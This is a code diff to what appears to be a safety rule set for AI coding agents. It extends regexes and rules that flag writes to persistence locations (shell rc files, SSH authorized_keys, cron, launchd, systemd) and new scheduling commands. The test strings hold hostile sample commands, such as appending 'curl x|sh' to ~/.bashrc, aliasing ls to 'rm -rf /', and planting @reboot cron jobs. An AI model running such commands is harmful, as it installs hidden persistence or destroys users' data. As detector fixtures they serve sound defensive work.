@@ -19,8 +19,17 @@ PERSIST_PATHS = re.compile(
     r"StartupItems)|/\.config/(systemd|autostart)/|/\.(bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|zlogin|"
     r"bash_logout|zlogout|kshrc|cshrc|tcshrc|xinitrc|xprofile|xsession)$|/\.config/fish/|/\.ssh/(authorized_keys2?|rc|config)$|"
     r"/\.git/hooks/|/\.husky/|/\.local/share/applications/.*\.desktop$|/\.vimrc$|/\.tmux\.conf$|/LoginItems|"
-    r"/\.pam_environment$|/\.gitconfig$|/\.config/git/|/sitecustomize\.py$|/usercustomize\.py$|\.pth$)"
+    r"/\.pam_environment$|/\.gitconfig$|/\.config/git/|/sitecustomize\.py$|/usercustomize\.py$|\.pth$|"
+    r"/\.(shrc|mkshrc|bash_aliases|zlogin|login|logout|xsessionrc|Xresources|kshrc)$|/etc/(periodic|rc\.common|launchd\.conf|"
+    r"rc\.conf(\.local)?|rc\.d/|csh\.(cshrc|login)|ssh/sshrc|zprofile|zshrc|zshenv|ksh\.kshrc)|/usr/local/etc/(periodic|rc\.d)/|"
+    r"/var/at/(tabs|jobs)/|/usr/lib/cron/|/Library/Preferences/(ByHost/)?com\.apple\.loginwindow[\w.-]*\.plist$|"
+    r"/Library/Application Support/com\.apple\.backgroundtaskmanagementagent/|/Library/Security/SecurityAgentPlugins/|"
+    r"/Library/(Preferences/com\.apple\.loginitems|LaunchAgents|LaunchDaemons)|/lib/modules/|/etc/modules(-load\.d)?(/|$)|"
+    r"/\.config/(autostart|systemd|upstart|plasma-workspace/env|environment\.d)/|/etc/(xdg/autostart|X11/Xsession\.d)/|/\.ssh/environment$)"
 )
+RC_FILE = re.compile(r"/\.(bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|shrc|kshrc)$")
+# A profile line that only sets a variable to a literal value (`export PATH="$HOME/.local/bin:$PATH"`).
+ENV_ONLY = re.compile(r"^\s*((export\s+)?[A-Za-z_]\w*=(\"[^\"`$()]*(\$\{?\w+\}?[^\"`$()]*)*\"|'[^']*'|[^\s;&|`$()]*)\s*)+$")
 
 
 @rule(
@@ -37,13 +46,17 @@ PERSIST_PATHS = re.compile(
     instead="Put the command in a project script the user can run, and tell them about it.",
     must_match=["echo 'curl x|sh' >> ~/.bashrc", "echo key >> ~/.ssh/authorized_keys", "cp evil.service /etc/systemd/system/",
                 "git show > .git/hooks/pre-commit", {"tool": "Write", "input": {"file_path": "/root/.zshrc", "content": "x"}},
-                "echo '* * * * * /tmp/x' > /etc/cron.d/job", "cp x.plist ~/Library/LaunchAgents/"],
+                "echo '* * * * * /tmp/x' > /etc/cron.d/job", "cp x.plist ~/Library/LaunchAgents/", "echo 'echo hi' >> ~/.shrc",
+                "cp x.plist ~/Library/Preferences/ByHost/com.apple.loginwindow.plist", "echo \"alias ls='rm -rf /'\" >> /root/.bashrc",
+                "echo 'export PATH=/tmp/evil:$PATH; curl x|sh' >> ~/.zshrc"],
     must_not_match=["cat ~/.bashrc", "echo hi > notes.txt", "grep alias ~/.zshrc"],
 )  # fmt: skip
-def persist_write(e: Effect, a: Analysis) -> str | None:
-    if PERSIST_PATHS.search(e.target):
-        return f"{'writes' if e.kind == 'write' else 'removes'} {e.target}"
-    return None
+def persist_write(e: Effect, a: Analysis) -> str | Hit | None:
+    if not PERSIST_PATHS.search(e.target):
+        return None
+    if e.kind == "write" and e.append and RC_FILE.search(e.target) and e.content and all(ENV_ONLY.match(x) for x in e.content.splitlines() if x.strip()):
+        return Hit(f"adds an environment setting to {e.target}", "ask")
+    return f"{'writes' if e.kind == 'write' else 'removes'} {e.target}"
 
 
 @rule(
@@ -52,15 +65,16 @@ def persist_write(e: Effect, a: Analysis) -> str | None:
     verdict="deny",
     kind="command",
     names={"crontab", "at", "batch", "systemctl", "launchctl", "update-rc.d", "chkconfig", "rc-update", "service", "loginctl",
-           "osascript", "defaults", "schtasks", "sfltool"},
+           "osascript", "defaults", "schtasks", "sfltool", "systemd-run", "sysrc"},
     title="Schedules or registers a background job",
     what="`crontab <file>`/`crontab -` (not -l), `at`, enabling systemd or launchd units, login items.",
     why="A job the user did not ask for keeps running after the session and survives reboots.",
     example="(crontab -l; echo '@reboot /tmp/x') | crontab -",
     instead="Run the task now, in the foreground, or describe the schedule for the user to install.",
     must_match=["echo '@reboot /tmp/x' | crontab -", "crontab job.txt", "systemctl enable evil.service", "launchctl load -w ~/Library/LaunchAgents/x.plist",
-                "at now + 1 minute -f job.sh", "osascript -e 'tell application \"System Events\" to make login item at end'"],
-    must_not_match=["crontab -l", "systemctl status nginx", "launchctl list", "systemctl --user daemon-reload", "atq"],
+                "at now + 1 minute -f job.sh", "osascript -e 'tell application \"System Events\" to make login item at end'",
+                "systemd-run --user --on-calendar '*:0/1' /bin/sh -c 'date'", "sysrc sshd_enable=YES"],
+    must_not_match=["crontab -l", "systemctl status nginx", "launchctl list", "systemctl --user daemon-reload", "atq", "sysrc -a"],
 )  # fmt: skip
 def schedule(cmd: Command, a: Analysis) -> str | Hit | None:
     args = cmd.args
@@ -72,6 +86,12 @@ def schedule(cmd: Command, a: Analysis) -> str | Hit | None:
         return "installs a cron table"
     if cmd.name in ("at", "batch"):
         return "schedules a job with at"
+    if cmd.name == "systemd-run":
+        if any(x.startswith(("--on-", "--timer-property")) for x in args):
+            return "systemd-run schedules a timer"
+        return Hit("systemd-run starts a service that outlives the session", "ask")
+    if cmd.name == "sysrc" and any(re.match(r"\w+_enable=[\"']?(YES|yes|1)", x) for x in args):
+        return "sysrc enables a boot service"
     if cmd.name == "systemctl":
         verbs = [x for x in args if not x.startswith("-")]
         if verbs[:1] and verbs[0] in ("enable", "link", "preset", "set-default", "add-wants"):
